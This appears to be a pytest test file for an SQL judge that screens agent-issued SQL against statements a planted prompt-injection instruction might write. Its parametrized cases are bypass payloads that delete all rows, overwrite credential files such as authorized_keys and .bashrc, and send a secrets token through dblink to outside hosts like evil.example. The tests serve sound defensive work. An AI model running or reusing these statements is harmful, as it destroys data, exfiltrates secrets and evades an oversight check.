"""The SQL judge (engine/sql_judge.py) against SQL a planted instruction writes to get past
it: each case was run by SQLite 3.40 the way the reference server runs it (one statement,
Python's sqlite3) and did what the comment says while the judge allowed it, or asked where
the same effect written plainly is denied. Postgres cases are read from its documentation."""

from __future__ import annotations

import pytest

from cordon.engine import rules
from cordon.engine.sql_judge import judge


def _rule(sql: str, dialect: str = "sqlite") -> tuple[str, str] | None:
    hit = judge(sql, dialect)
    return None if hit is None else (hit.verdict, hit.rule)


# SQLite's ALTER TABLE takes DROP [COLUMN]: without the keyword sqlglot keeps the action as
# raw text, and the column and its data were gone
ALTER_DROPS = ["ALTER TABLE t DROP a", 'ALTER TABLE t DROP "a"', "ALTER TABLE t DROP [a]"]


@pytest.mark.parametrize(
    "sql",
    [
        "ALTER TABLE t ADD COLUMN c TEXT",
        "ALTER TABLE t ALTER COLUMN a SET DEFAULT 0",
        "ALTER TABLE t ALTER COLUMN a DROP NOT NULL",
        "ALTER TABLE t ADD CONSTRAINT c UNIQUE (a)",
    ],
)
def test_alter_that_keeps_rows_and_columns_runs(sql: str) -> None:
    assert _rule(sql, "postgres") is None


def test_alter_column_type_rewrites_every_row_and_is_asked() -> None:
    sql = "ALTER TABLE t ALTER COLUMN a TYPE text USING 'owned'"
    assert _rule(sql, "postgres") == ("ask", rules.ACTION_SQL_SCHEMA)


@pytest.mark.parametrize("sql", ALTER_DROPS)
def test_alter_drop_without_the_column_keyword_is_asked(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_SCHEMA)


# the same column on both sides, spelt two ways: SQLite's names are case-insensitive, a
# quoted or bracketed name is the bare one, the table's own name or alias qualifies it, and
# COLLATE or a unary + leave it; every row was deleted
SELF_COMPARES = [
    'DELETE FROM t WHERE "id" = id',
    "DELETE FROM t WHERE [id] = id",
    "DELETE FROM t WHERE `id` = id",
    "DELETE FROM t WHERE ID = id",
    "DELETE FROM t WHERE t.id = id",
    "DELETE FROM main.t WHERE main.t.id = id",
    "DELETE FROM t AS x WHERE x.id = t.id",
    "DELETE FROM t WHERE id = id COLLATE NOCASE",
    "UPDATE t SET a = 'owned' WHERE t.a = a",
    # a list or a query of the whole table holding the row itself
    "DELETE FROM t WHERE id IN (id)",
    "DELETE FROM t WHERE rowid IN (SELECT rowid FROM t)",
    "DELETE FROM t WHERE id IN (SELECT id FROM t WHERE 1)",
    "UPDATE t SET a = 'owned' WHERE rowid IN (SELECT t.rowid FROM main.t)",
    # a rowid is never NULL
    "DELETE FROM t WHERE rowid IS NOT NULL",
    "DELETE FROM t WHERE rowid NOTNULL",
    "DELETE FROM t WHERE _rowid_",
]


@pytest.mark.parametrize("sql", SELF_COMPARES)
def test_a_column_compared_with_itself_is_denied(sql: str) -> None:
    assert _rule(sql) == ("deny", rules.ACTION_SQL_DELETE_NO_WHERE)


# rows named by value: they run unasked
PINNED = [
    "DELETE FROM t WHERE id IN (1, 2)",
    "DELETE FROM t WHERE 'a' = 'b'",  # two different strings: no row
    'DELETE FROM t WHERE "status" = \'closed\' AND "id" > 5',
    "DELETE FROM t WHERE status = 'closed'",
    'UPDATE "users" SET "role" = \'x\' WHERE "id" = 5',  # a string is never equal to 5
    "DELETE FROM t WHERE 1 = 2",
    "UPDATE t SET a = 1 FROM u WHERE t.id = 4 AND t.id = u.id",
]
# conditions that restrict the rows but do not name them (a join, a subquery, a range,
# nullness): never denied as every row, asked as a delete by condition (sql_where)
RESTRICTING = [
    "UPDATE t SET a = 1 FROM u WHERE t.id = u.id",  # a join: another table's column
    "UPDATE t SET a = 1 FROM u WHERE id = 4",  # (id may be u's: every row of t)
    "DELETE FROM t WHERE id IN (SELECT tid FROM u)",
    "DELETE FROM t WHERE id IN (SELECT id FROM t WHERE a = 'x')",
    "DELETE FROM t WHERE id IN (SELECT id FROM t ORDER BY id LIMIT 5)",
    "DELETE FROM orders WHERE oid IS NOT NULL",  # (an order id: a column of its own)
    'DELETE FROM "logs" WHERE "created_at" < \'2024-01-01\'',  # ('c' < '2' is false)
    "DELETE FROM t WHERE parent_id IN (SELECT id FROM t)",
    "UPDATE t SET a = 1 WHERE rowid IN (SELECT rowid FROM t ORDER BY random() LIMIT 5)",
]


@pytest.mark.parametrize("sql", PINNED)
def test_rows_named_by_value_run(sql: str) -> None:
    assert _rule(sql) is None


@pytest.mark.parametrize("sql", RESTRICTING)
def test_a_restricting_condition_is_asked_not_denied(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_DELETE_NO_WHERE)


# SQLite reads a double-quoted name that names no column as a string ("x" = 'x' is true for
# every row): sqlglot reads a column, so the condition looked restricting
DOUBLE_QUOTED = [
    ("DELETE FROM t WHERE \"x\" = 'x'", "ask"),
    ('DELETE FROM t WHERE "1"', "ask"),
    ("UPDATE t SET a = 'owned' WHERE \"yes\"", "ask"),
    ('DELETE FROM t WHERE "t" IS NOT NULL', "ask"),
]


@pytest.mark.parametrize(("sql", "verdict"), DOUBLE_QUOTED)
def test_a_double_quoted_name_read_as_a_string_is_not_a_restriction(sql: str, verdict: str) -> None:
    assert _rule(sql) == (verdict, rules.ACTION_SQL_DELETE_NO_WHERE)


def test_a_double_quoted_name_is_a_column_in_postgres() -> None:
    # not read as a string there: a bare column, asked as a delete by condition
    hit = judge('DELETE FROM t WHERE "1"', "postgres")
    assert hit is not None and (hit.verdict, hit.matched) == ("ask", "DELETE by condition")


# a server that hands the text to SQLite as a C string runs it up to the NUL: the unbounded
# head of "DELETE FROM t\0 WHERE id = 1"
NULS = [
    ("DELETE FROM t\x00 WHERE id = 1", ("deny", rules.ACTION_SQL_DELETE_NO_WHERE)),
    ("SELECT 1\x00", ("ask", rules.ACTION_SQL_UNPARSED)),
]


@pytest.mark.parametrize(("sql", "want"), NULS)
def test_a_nul_character_is_read_as_a_c_string_ends(sql: str, want: tuple[str, str]) -> None:
    assert _rule(sql) == want


# an insert that replaces rows, fed by a query, rewrites every row the query reads: an
# UPDATE with no WHERE written as an upsert (both rows were overwritten)
REPLACING = [
    "INSERT OR REPLACE INTO t SELECT id, 'owned' FROM t",
    "REPLACE INTO t SELECT id, 'owned' FROM t",
    "INSERT INTO t SELECT * FROM t WHERE 1 ON CONFLICT DO UPDATE SET a = 'owned'",
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 9999) "
    "INSERT OR REPLACE INTO t SELECT x, 'owned' FROM c",
]


@pytest.mark.parametrize("sql", REPLACING)
def test_a_replacing_insert_fed_by_a_query_is_asked(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_DELETE_NO_WHERE)


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT OR REPLACE INTO t VALUES (1, 'x')",
        "INSERT INTO t VALUES (1, 'x') ON CONFLICT(id) DO UPDATE SET a = excluded.a",
        "INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING",
        "INSERT INTO t SELECT * FROM u",
    ],
)
def test_an_upsert_of_given_rows_runs(sql: str) -> None:
    assert _rule(sql) is None


# the schema tables: with writable_schema on (a server that keeps its connection), a row
# written there rewrites what every later statement reads; sqlite_dbpage writes raw pages
@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE sqlite_master SET sql = 'x' WHERE name = 't'",
        "DELETE FROM sqlite_schema WHERE name = 't'",
        "INSERT INTO main.sqlite_master VALUES ('table', 'x', 'x', 0, '')",
        "INSERT INTO sqlite_dbpage VALUES (1, zeroblob(4096))",
    ],
)
def test_a_write_to_the_schema_tables_is_asked(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_SCHEMA)


# a path written as pieces of literal text is the path: the same file as the plain literal
COMPUTED_CREDENTIAL_PATHS = [
    "ATTACH '/home/me/' || '.bashrc' AS x",
    "VACUUM INTO '/home/me/' || '.ssh/authorized_keys'",
    "VACUUM INTO ('/home/me/.cursor/' || 'mcp.json')",
    "ATTACH ('/home/' || ('me/' || '.zshrc')) AS z",
    # a double-quoted piece is a string to SQLite (a name no column has): the file was made
    "ATTACH '/home/me/' || \".bashrc\" AS x",
    "VACUUM INTO '/home/me/' || \".profile\"",
]


@pytest.mark.parametrize("sql", COMPUTED_CREDENTIAL_PATHS)
def test_a_path_joined_from_literals_is_judged_as_the_path(sql: str) -> None:
    assert _rule(sql) == ("deny", rules.ACTION_SQL_FILE)


@pytest.mark.parametrize(
    "sql",
    ["ATTACH char(47) || 'home/me/.bashrc' AS x", "VACUUM INTO printf('%s', '/tmp/a.db')"],
)
def test_a_path_from_a_function_is_still_asked(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_FILE)


# Postgres: E'', U&'' and dollar-quoted strings are strings
POSTGRES = [
    ("COPY t TO E'/home/me/.bashrc'", ("deny", rules.ACTION_SQL_FILE)),
    ("COPY t TO $$/home/me/.bashrc$$", ("deny", rules.ACTION_SQL_FILE)),
    ("COPY t TO U&'/home/me/.bashrc'", ("deny", rules.ACTION_SQL_FILE)),
    ("COPY t TO E'/home/me/\\056bashrc'", ("deny", rules.ACTION_SQL_FILE)),  # (octal for .)
    ("COPY t TO $$/tmp/x.csv$$", ("ask", rules.ACTION_SQL_FILE)),
    # dblink runs its SQL text on a connection: the text is judged, the connection asked
    ("SELECT dblink_exec('dbname=postgres', 'DROP TABLE users')", ("deny", rules.ACTION_SQL_DROP)),
    (
        "SELECT * FROM dblink('dbname=postgres', 'DELETE FROM t RETURNING 1') AS x(a int)",
        ("deny", rules.ACTION_SQL_DELETE_NO_WHERE),
    ),
    ("SELECT dblink_exec('host=evil.example', 'SELECT 1')", ("ask", rules.ACTION_SQL_UNPARSED)),
    # a connection string is a channel out: host and user are the statement's to choose
    (
        "SELECT dblink_connect('host=x.example user=' || (SELECT token FROM secrets))",
        ("ask", rules.ACTION_SQL_UNPARSED),
    ),
]


@pytest.mark.parametrize(("sql", "want"), POSTGRES)
def test_postgres(sql: str, want: tuple[str, str]) -> None:
    assert _rule(sql, "postgres") == want


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM t WHERE " + " OR ".join(["id = 1"] * 3000),
        "VACUUM INTO " + " || ".join(["'a'"] * 5000),
        "ATTACH " + " || ".join(["'a'"] * 5000) + " AS x",
    ],
)
def test_sql_nested_deeper_than_the_walk_is_asked(sql: str) -> None:
    """The judge's walk recursed past Python's limit and raised; it asks instead."""
    assert _rule(sql) == ("ask", rules.ACTION_SQL_UNPARSED)


def test_a_deny_before_the_deep_statement_still_wins() -> None:
    deep = "DELETE FROM t WHERE " + " OR ".join(["id = 1"] * 3000)
    assert _rule(f"DROP TABLE users; {deep}") == ("deny", rules.ACTION_SQL_DROP)
    assert _rule(f"{deep}; DROP TABLE users") == ("deny", rules.ACTION_SQL_DROP)


# virtual tables and table-valued functions of the SQLite CLI and its extensions (fileio,
# zipfile), which some SQLite servers load: they read or write the file they name
@pytest.mark.parametrize(
    ("sql", "want"),
    [
        (
            "CREATE VIRTUAL TABLE temp.z USING zipfile('/home/me/.bashrc')",
            ("ask", rules.ACTION_SQL_SCHEMA),
        ),
        ("SELECT name, data FROM fsdir('/home/me/.ssh')", ("deny", rules.ACTION_SQL_FILE)),
        ("SELECT name FROM zipfile('/tmp/upload.zip')", ("ask", rules.ACTION_SQL_FILE)),
        ("CREATE VIRTUAL TABLE docs USING fts5(title, body)", None),
        ("CREATE VIRTUAL TABLE boxes USING rtree(id, x0, x1)", None),
    ],
)
def test_file_modules_are_judged_as_files(sql: str, want: tuple[str, str] | None) -> None:
    assert _rule(sql) == want


# ATTACH forms SQLite ran (and created the file) that sqlglot reads oddly or not at all:
# the path before AS is still read, and a credential path denied
@pytest.mark.parametrize(
    "sql",
    [
        "ATTACH '/home/me/.bashrc' AS (x)",
        "ATTACH '/home/me/.bashrc' AS 'a' || 'b'",
        "ATTACH '/home/me/.bashrc' AS x KEY ''",
        "ATTACH DATABASE ('/home/me/' || '.bashrc') AS x KEY ''",
        "SELECT 1; ATTACH '/home/me/.bashrc' AS x KEY ''",
        # one unreadable statement does not hide a plain one next to it
        "SELECT * FROM; DROP TABLE users",
    ],
)
def test_unreadable_text_still_yields_its_deny(sql: str) -> None:
    hit = judge(sql, "sqlite")
    assert hit is not None and hit.verdict == "deny", hit


@pytest.mark.parametrize(
    "sql", ["ATTACH 'x.db' AS x KEY ''", "SELECT * FROM; SELECT 1", "ATTACH AS x KEY"]
)
def test_unreadable_text_without_a_deny_is_asked(sql: str) -> None:
    assert _rule(sql) == ("ask", rules.ACTION_SQL_UNPARSED)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT set_config('search_path', 'evil', false)",
        "SELECT setval('orders_id_seq', 1)",
        "SELECT lo_unlink(16403)",
        "SELECT pg_catalog.pg_reload_conf()",
    ],
)
def test_a_select_of_a_postgres_function_that_acts_is_asked_in_a_read_tool(sql: str) -> None:
    hit = judge(sql, "postgres", read_only=True)
    assert hit is not None and (hit.verdict, hit.rule) == ("ask", rules.ACTION_SQL_WRITE)


def test_a_select_of_a_plain_function_reads_in_a_read_tool() -> None:
    assert judge("SELECT count(*), max(created_at) FROM t", "postgres", read_only=True) is None
    assert judge("SELECT current_setting('search_path')", "postgres", read_only=True) is None


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("DELETE FROM t WHERE 1 < 'a'", "sqlite"),  # a number sorts before a string
        ("DELETE FROM t WHERE 'b' > 'a'", "sqlite"),
        ("DELETE FROM t WHERE 2 <> 3", "sqlite"),
        ("DELETE FROM t WHERE '1' = 1", "postgres"),  # Postgres casts '1' to 1: true
        ("DELETE FROM t WHERE 'a' < 'B'", "postgres"),  # true under most collations
    ],
)
def test_a_true_comparison_of_literals_is_every_row(sql: str, dialect: str) -> None:
    assert _rule(sql, dialect) == ("deny", rules.ACTION_SQL_DELETE_NO_WHERE)
